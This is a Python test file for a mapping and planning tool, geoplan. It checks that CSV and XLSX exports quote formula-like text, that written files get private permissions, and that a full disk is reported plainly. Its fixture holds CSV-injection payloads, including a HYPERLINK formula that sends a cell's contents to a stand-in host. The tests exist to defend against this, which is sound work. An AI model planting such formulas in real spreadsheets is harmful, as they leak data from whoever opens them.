"""How geoplan writes files: cells that stay text (OWASP CSV injection), private modes, whole
files, and a full disk that says so; then a formula-named site through every CSV and XLSX output
of the command line and the API, and the modes of everything the demo and `geoplan plan` write."""

from __future__ import annotations

import csv
import datetime as dt
import errno
import io
import stat
import time
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import shapely
from openpyxl import Workbook

from geoplan.cli import run
from geoplan.demo.run import DemoOptions, run_demo
from geoplan.edits import Edit, create_feature
from geoplan.errors import DiskFullError
from geoplan.imports import import_file
from geoplan.keys import create_key
from geoplan.outputs import (
    FORMULA_START,
    append_row,
    create_private,
    is_disk_full,
    private_file,
    private_folder,
    safe_cell,
    safe_frame,
    safe_text,
    write_csv,
    write_text,
)
from geoplan.store import open_store
from geoplan.vocab import Role
from tests.api_fixtures import TestClient, Workspace, client_for

HOSTILE = (
    '=HYPERLINK("http://x/leak?"&C2,"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+2",
)
QUOTED = {"'" + h.strip() for h in HOSTILE}
"""The names as the outputs must hold them: the import trims the tab, the quote goes in front."""
WEEK = "2026-W49"


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- cells ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "=1", "\r=1", " =1+1", "\n@x", "-"])
def test_text_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    """Text starting with = + - @ tab or CR, also after spaces, gets a single quote in front."""
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Souq block A", "", "a=b", "'=already", "GP-1", "3-4"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    """Text that starts with anything else is written as it is."""
    assert safe_text(text) == text


def test_numbers_stay_numbers() -> None:
    """Negative numbers, floats, None and booleans pass through unchanged; text is made safe."""
    assert [safe_cell(v) for v in (-3, -2.5, None, True)] == [-3, -2.5, None, True]
    assert safe_cell("-2+3") == "'-2+3"


def test_safe_frame_neutralises_text_columns_and_names_only() -> None:
    """Object, string and category columns and column names are made safe; numbers keep
    their dtype and their sign; the frame given is not changed."""
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "ok"],
            "kind": pd.Categorical(["@x", "y"]),
            "label": pd.array(["+a", None], dtype="string"),
            "x": [-1.5, 2.0],
            "n": pd.array([-3, None], dtype="Int64"),
            "=col": ["a", "b"],
        }
    )
    safe = safe_frame(frame)
    assert list(safe.columns) == ["name", "kind", "label", "x", "n", "'=col"]
    assert list(safe["name"]) == ["'=1+1", "ok"]
    assert list(safe["kind"].astype(str)) == ["'@x", "y"]
    assert safe["label"].iloc[0] == "'+a"
    assert pd.isna(safe["label"].iloc[1])
    assert safe["x"].tolist() == [-1.5, 2.0]
    assert safe["n"].dtype == "Int64"
    assert frame["name"].iloc[0] == "=1+1"


def test_write_csv_writes_numbers_as_numbers_and_text_as_text(tmp_path: Path) -> None:
    """A negative number is written as one; text that looks like a formula is quoted."""
    path = write_csv(pd.DataFrame({"name": ["-2+3"], "lon": [-13.25]}), tmp_path / "t.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert rows == [["name", "lon"], ["'-2+3", "-13.25"]]


def test_append_row_stores_text_as_text(tmp_path: Path) -> None:
    """XLSX rows: no formula cell, the neutralised text, numbers and dates kept, and control
    characters XML cannot hold replaced instead of failing the workbook."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, ['=HYPERLINK("http://x","x")', -4, dt.date(2026, 11, 30), "bell\x07", None])
    book.save(tmp_path / "b.xlsx")
    cells = next(openpyxl.load_workbook(tmp_path / "b.xlsx").active.iter_rows())
    assert [c.data_type for c in cells[:4]] == ["s", "n", "d", "s"]
    assert cells[0].value == '\'=HYPERLINK("http://x","x")'
    assert cells[1].value == -4
    assert cells[3].value == "bell\ufffd"


# --- files ----------------------------------------------------------------------------------


def _write_then_fail(path: Path, error: Exception) -> None:
    with private_file(path) as partial:
        partial.write_text("half")
        raise error


def test_private_file_is_0600_in_0700_folders_and_whole(tmp_path: Path) -> None:
    """New folders are 0700, files 0600; a failed write leaves the old file and no litter."""
    path = write_text(tmp_path / "a" / "b" / "plan.html", "old")
    assert _mode(path) == 0o600
    assert _mode(tmp_path / "a") == _mode(tmp_path / "a" / "b") == 0o700
    with pytest.raises(RuntimeError, match="stopped"):
        _write_then_fail(path, RuntimeError("stopped"))
    assert path.read_text() == "old"
    assert [p.name for p in path.parent.iterdir()] == ["plan.html"]


def test_existing_folders_keep_their_mode(tmp_path: Path) -> None:
    """A folder that exists already is not changed."""
    folder = tmp_path / "shared"
    folder.mkdir(mode=0o755)
    folder.chmod(0o755)
    private_folder(folder)
    assert _mode(folder) == 0o755


def test_create_private_makes_an_empty_0600_file_once(tmp_path: Path) -> None:
    """The file is made empty and 0600 when missing, and left alone when it exists."""
    path = tmp_path / "ws.gpkg"
    assert create_private(path) is True
    assert _mode(path) == 0o600
    assert path.stat().st_size == 0
    path.write_text("data")
    assert create_private(path) is False
    assert path.read_text() == "data"


# --- a full disk ----------------------------------------------------------------------------


def test_a_full_disk_while_writing_says_the_disk_is_full(tmp_path: Path) -> None:
    """ENOSPC inside a private write becomes DiskFullError naming the folder; the target is
    left as it was."""
    path = write_text(tmp_path / "s.csv", "old")
    with pytest.raises(DiskFullError, match="the disk is full: free space on") as caught:
        _write_then_fail(path, OSError(errno.ENOSPC, "No space left on device"))
    assert str(tmp_path) in str(caught.value)
    assert "try again" in str(caught.value)
    assert path.read_text() == "old"


def test_a_full_disk_is_recognised_by_errno_text_and_cause() -> None:
    """ENOSPC and EDQUOT by errno, GDAL's words, and a cause two steps down all count."""
    assert is_disk_full(OSError(errno.ENOSPC, "x"))
    assert is_disk_full(OSError(errno.EDQUOT, "x"))
    assert is_disk_full(RuntimeError("write failed: No space left on device"))
    outer, middle = ValueError("wrapped"), RuntimeError("while writing")
    middle.__context__ = OSError(errno.ENOSPC, "x")
    outer.__cause__ = middle
    assert is_disk_full(outer)
    assert not is_disk_full(OSError(errno.EACCES, "Permission denied"))


def test_the_command_line_says_the_disk_is_full(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`geoplan export` on a full disk: exit 1 and a plain message, no traceback."""
    ws = tmp_path / "ws.gpkg"
    import_file(
        Path(__file__).parent / "data" / "valid" / "teams.csv", "teams", store=open_store(ws)
    )

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
    code = run(["export", "teams", "-f", "csv", "-o", str(tmp_path / "t.csv"), "-w", str(ws)])
    err = capsys.readouterr().err
    assert code == 1
    assert "the disk is full: free space on" in err
    assert "Traceback" not in err


# --- a formula-named site through every output ----------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, fixtures: Path) -> Workspace:
    """The API fixtures' workspace with five gathering points named as formulas, one of them
    inaccessible (so that it is left out) and one with a formula as its access reason."""
    folder = tmp_path_factory.mktemp("hostile")
    sites = pd.DataFrame(
        {
            "id": [f"GP-{k}" for k in range(1, 6)],
            "name": list(HOSTILE),
            "setting": "urban_community",
            "people": 20,
            "services_needed": "health",
            "access_status": ["open", "restricted", "open", "open", "inaccessible"],
            "access_reason": ["", "-2+3", "", "", "@SUM(A1)"],
            "notes": ["=1+1", "", "", "", ""],
            "lon": [13.18, 13.25, 13.30, 13.21, 13.27],
            "lat": [32.88, 32.85, 32.86, 32.87, 32.84],
        }
    )
    sites.to_csv(folder / "gathering_points.csv", index=False)
    path = folder / "ws.gpkg"
    code = run(
        ["import", "gathering_points", str(folder / "gathering_points.csv"), "-w", str(path)]
    )
    assert code == 0
    store = open_store(path)
    for layer in ("teams", "outreach_visits"):
        import_file(fixtures / "valid" / f"{layer}.csv", layer, store=store)
    clinic = {"id": "CL-1", "name": "Clinic one", "kind": "own_clinic", "services": ["health"]}
    create_feature(store, "clinics", Edit(clinic, shapely.Point(13.19, 32.87)))
    keys = {role: create_key(store, role=role, name=role)[1] for role in Role}
    return Workspace(path, keys)


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _live(cell: str) -> bool:
    """Whether a spreadsheet would run the cell as a formula (numbers are numbers)."""
    if not (cell.startswith(FORMULA_START) or cell.lstrip().startswith(FORMULA_START)):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _check_csv(text: str, *, names: bool = True) -> None:
    cells = _csv_cells(text)
    assert [c for c in cells if _live(c)] == []
    if names:
        assert QUOTED & set(cells)


def _check_xlsx(data: bytes) -> set[str]:
    """No formula anywhere in the workbook; its text cells."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert [t for t in texts if _live(t)] == []
    return texts


def test_a_formula_named_site_is_text_in_every_command_line_output(
    hostile: Workspace, tmp_path: Path
) -> None:
    """Schedules, left-out visits, coverage tables, the layer export and the problems report
    hold each formula as quoted text; the workbook has no formula cell."""
    ws = ["-w", str(hostile.path)]
    out = tmp_path / "plan"
    plan = [
        "plan",
        *ws,
        "--week",
        WEEK,
        "--time-limit",
        "1",
        "-o",
        str(out),
        "--format",
        "csv,xlsx",
    ]
    assert run(plan) == 0
    _check_csv((out / "schedule.csv").read_text(encoding="utf-8"))
    left_out = (out / "left_out.csv").read_text(encoding="utf-8")
    _check_csv(left_out)
    assert "'=1+2" in _csv_cells(left_out)  # the inaccessible site
    texts = _check_xlsx((out / "schedule.xlsx").read_bytes())
    assert texts >= QUOTED
    assert run(["coverage", *ws, "-o", str(tmp_path / "coverage")]) == 0
    tables = sorted((tmp_path / "coverage").glob("*.csv"))
    assert len(tables) >= 4
    for table in tables:
        _check_csv(table.read_text(encoding="utf-8"), names=table.name == "coverage_sites.csv")
    export = tmp_path / "gp.csv"
    assert run(["export", "gathering_points", *ws, "-f", "csv", "-o", str(export)]) == 0
    cells = _csv_cells(export.read_text(encoding="utf-8"))
    assert set(cells) >= QUOTED
    assert not [c for c in cells if _live(c)]


def test_a_formula_in_a_bad_row_is_text_in_the_problems_report(
    hostile: Workspace, tmp_path: Path
) -> None:
    """`geoplan import --report`: the offending values are listed as quoted text."""
    bad = tmp_path / "bad.csv"
    pd.DataFrame(
        {"id": ["=1+2", "GP-9"], "name": ["x", "y"], "setting": ["a", "@SUM(A1)"]}
        | {"lon": [13.2, 13.2], "lat": [32.8, 32.8]}
    ).to_csv(bad, index=False)
    report = tmp_path / "problems.csv"
    args = [
        "import",
        "gathering_points",
        str(bad),
        "-w",
        str(hostile.path),
        "--report",
        str(report),
    ]
    assert run(args) == 1
    cells = _csv_cells(report.read_text(encoding="utf-8"))
    assert {"'=1+2", "'@SUM(A1)"} <= set(cells)
    assert [c for c in cells if _live(c)] == []


@pytest.fixture(scope="module")
def api_client(hostile: Workspace) -> Iterator[TestClient]:
    with client_for(hostile) as client:
        yield client


def test_a_formula_named_site_is_text_in_the_apis_csv_and_xlsx(
    api_client: TestClient, hostile: Workspace
) -> None:
    """GET /plans/{id}/schedule.csv, left_out.csv and schedule.xlsx: quoted text, no formula."""
    headers = hostile.headers("planner")
    body = {"week": WEEK, "time_limit": 1, "seed": 0}
    location = api_client.post("/plans", json=body, headers=headers).headers["location"]
    deadline = time.monotonic() + 90
    while api_client.get(location, headers=headers).json()["status"] not in ("done", "failed"):
        assert time.monotonic() < deadline
        time.sleep(0.2)
    answers = {
        name: api_client.get(f"{location}/{name}", headers=headers)
        for name in ("schedule.csv", "left_out.csv", "schedule.xlsx")
    }
    assert [a.status_code for a in answers.values()] == [200, 200, 200]
    _check_csv(answers["schedule.csv"].text)
    _check_csv(answers["left_out.csv"].text)
    assert _check_xlsx(answers["schedule.xlsx"].content) >= QUOTED


# --- modes of everything geoplan writes -----------------------------------------------------


def test_the_demo_and_geoplan_plan_write_nothing_others_can_read(tmp_path: Path) -> None:
    """After the demo (workspace, travel times, coverage, schedules, maps) and `geoplan plan`,
    every file is 0600 and every folder 0700: no group or world access."""
    out = tmp_path / "demo"
    run_demo(out, options=DemoOptions(sites=20, visits=100, time_limit=1))
    ws = ["-w", str(out / "geoplan.gpkg")]
    assert run(["plan", *ws, "--time-limit", "1", "-o", str(out / "week")]) == 0
    matrix = ["matrix", *ws, "--from", "teams", "--to", "gathering_points"]
    assert run([*matrix, "-o", str(out / "matrix.csv")]) == 0
    assert run(["export", "gathering_points", *ws, "-o", str(out / "gp.gpkg")]) == 0
    assert run(["map", "layers", *ws, "-o", str(out / "map.html")]) == 0
    written = list(out.rglob("*"))
    assert len([p for p in written if p.is_file()]) > 30
    loose = {str(p.relative_to(out)): oct(_mode(p)) for p in written if _mode(p) & 0o077}
    assert loose == {}
    assert _mode(out) == 0o700
